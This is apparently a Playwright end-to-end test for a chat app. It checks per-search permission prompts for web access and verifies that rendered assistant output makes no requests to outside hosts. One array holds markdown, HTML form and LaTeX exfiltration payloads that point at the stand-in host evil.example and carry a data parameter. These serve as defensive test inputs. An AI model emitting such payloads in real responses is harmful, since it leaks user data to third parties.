import { createServer } from 'node:http'
import type { AddressInfo } from 'node:net'
import { expect, test } from '../support/test.ts'
import { type Rule, startModelServer } from '../../tests/fixtures/model-server/model-server.ts'
import { call, foundOrganisation, openAs, say, signUp } from '../support/person.ts'
import { startServer } from '../support/server.ts'
import { settingsTexts } from '../../contract/organisations/settings.texts.ts'
import { threadsTexts } from '../../contract/chat/threads.texts.ts'
import { permissionTexts } from '../../contract/chat/permission.texts.ts'
import { conversationTexts } from '../../contract/chat/conversation.texts.ts'
import { markdownTexts } from '../../contract/chat/markdown.texts.ts'

/** A site that stands for the web: its search service names one page. */
async function startSite(): Promise<{ site: string; host: string; requests: string[]; close(): void }> {
  const requests: string[] = []
  let site = ''
  const server = createServer((request, response) => {
    requests.push(decodeURIComponent(request.url ?? ''))
    if (request.url?.startsWith('/search')) {
      const results = [{ url: `${site}/rules`, title: 'Rules', content: 'Allowances' }]
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ results }))
    } else if (request.url === '/rules')
      response
        .writeHead(200, { 'content-type': 'text/html' })
        .end('<html><head><title>Rules</title></head><body><p>The allowance is 250 dollars.</p></body></html>')
    else response.writeHead(404).end()
  })
  await new Promise<void>((done) => server.listen(0, '127.0.0.1', done))
  const host = `127.0.0.1:${(server.address() as AddressInfo).port}`
  site = `http://${host}`
  return { site, host, requests, close: () => server.close() }
}

const elsewhere = [
  '![a chart](http://evil.example/p.png?d=Marlin)',
  '<img src="http://evil.example/q.png?d=Marlin">',
  '[Continue](http://evil.example/?d=Marlin)',
  '<form action="http://evil.example/"><button>Send</button></form>',
  String.raw`\(\href{http://evil.example/}{x}\) and \(\includegraphics{http://evil.example/r.png}\)`,
]
const rules: Rule[] = [
  ({ question, results }) => {
    if (question.includes('elsewhere')) return { text: elsewhere.join('\n\n') }
    if (question.includes('formula'))
      return { text: 'The margin is $$\\frac{profit}{sales}$$\n\n```mermaid\ngraph LR; A-->B\n```\n' }
    const done = results.map(({ name }) => name)
    if (!done.includes('list_documents')) return { calls: [{ name: 'list_documents', input: {} }] }
    const words = { words: 'bicycle allowance Marlin' }
    if (!done.includes('web_search')) return { calls: [{ name: 'web_search', input: words }] }
    const found = results.find(({ name }) => name === 'web_search')
    const { pages } = (found?.data ?? {}) as { pages?: { url: string }[] }
    if (pages === undefined) return { text: 'I did not search the web.' }
    if (!done.includes('open_page')) return { calls: [{ name: 'open_page', input: { url: pages[0]?.url } }] }
    return { text: 'It is 250 dollars.[^p1: "allowance is 250 dollars"]' }
  },
]

test('an administrator allows the web; a search shows its words first, and nothing leaves the page without a press @deep', async ({
  page,
}) => {
  const web = await startSite()
  const model = await startModelServer({ rules, delay: 2 })
  const server = await startServer({ MODEL_BASE_URL: model.url, CRAWL_ALLOW: web.host, SEARCH_URL: `${web.site}/` })
  const foreign: string[] = []
  page.on('request', (request) => {
    const { protocol, origin } = new URL(request.url())
    if (/^https?:/.test(protocol) && origin !== server.url) foreign.push(request.url())
  })
  try {
    const person = await signUp(server.url)
    const code = await foundOrganisation(server.url, person)
    await openAs(page, server.url, person, `/${code}/settings`)
    await page.getByLabel(settingsTexts.webAccess).click()
    await page.getByRole('option', { name: 'Allowed' }).click()
    await page
      .getByRole('form', { name: 'Organisation' })
      .getByRole('button', { name: threadsTexts.save, exact: true })
      .click()
    await expect(page.getByRole('form', { name: 'Organisation' }).getByText('Saved', { exact: true })).toBeVisible()
    expect((await call(server.url, 'GET', `/orgs/${code}`, person.token)).organisation.isWebAllowed).toBe(true)

    await page.goto(`${server.url}/${code}/chat`)
    await say(page, 'What is the bicycle allowance?')
    const asked = page.getByRole('group', { name: permissionTexts.title })
    await expect(asked).toContainText('bicycle allowance Marlin')
    expect(web.requests).toEqual([])
    await asked.getByRole('button', { name: permissionTexts.allow }).click()
    await expect(page.getByText('You allowed this web search: bicycle allowance Marlin')).toBeVisible()
    const answer = page.getByRole('article', { name: conversationTexts.assistant })
    await expect(answer.last()).toContainText('It is 250 dollars.')
    expect(web.requests).toEqual(['/search?q=bicycle+allowance+Marlin&format=json', '/robots.txt', '/rules'])
    await answer
      .last()
      .getByRole('button', { name: markdownTexts.source(1, 'Rules') })
      .click()
    await expect(page.getByRole('complementary', { name: conversationTexts.source })).toContainText(
      'allowance is 250 dollars',
    )

    await say(page, 'And once more?')
    await page.getByRole('button', { name: permissionTexts.refuse }).click()
    await expect(page.getByText('I did not search the web.', { exact: true })).toBeVisible()
    await page.reload()
    await expect(page.getByText('You didn’t allow this web search: bicycle allowance Marlin')).toBeVisible()
    expect(web.requests).toHaveLength(3)

    await say(page, 'Show a formula')
    await expect(answer.last().locator('math mfrac')).toHaveCount(1)
    await expect(answer.last().getByText(markdownTexts.diagram('mermaid'))).toBeVisible()
    await say(page, 'Show what is elsewhere')
    await expect(page.getByRole('button', { name: conversationTexts.copy })).toHaveCount(4)
    await answer
      .last()
      .getByRole('link', { name: /Continue/ })
      .click()
    await expect(page.getByRole('alertdialog')).toContainText('http://evil.example/?d=Marlin')
    expect(foreign).toEqual([])
  } finally {
    await server.stop()
    await model.close()
    web.close()
  }
})
